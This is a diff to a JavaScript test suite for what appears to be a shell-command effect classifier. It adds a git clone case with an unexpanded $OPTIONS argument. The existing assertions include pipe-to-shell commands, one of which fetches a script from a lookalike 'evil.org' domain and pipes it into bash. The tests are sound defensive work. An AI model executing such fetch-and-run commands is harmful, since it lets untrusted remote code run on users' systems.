@@ -164,6 +164,7 @@ describe("archives and the network", () => {
     expect(effects("curl -fsSL https://get.docker.com | sh").known).toBe(false);
     expect(effects("curl https://deb.nodesource.com.evil.org/setup_18.x | bash -").known).toBe(false);
     expect(effects("bash install.sh").known).toBe(false);
+    expect(effects("git clone $OPTIONS https://github.com/a/b.git").known).toBe(false);
   });
 });
 
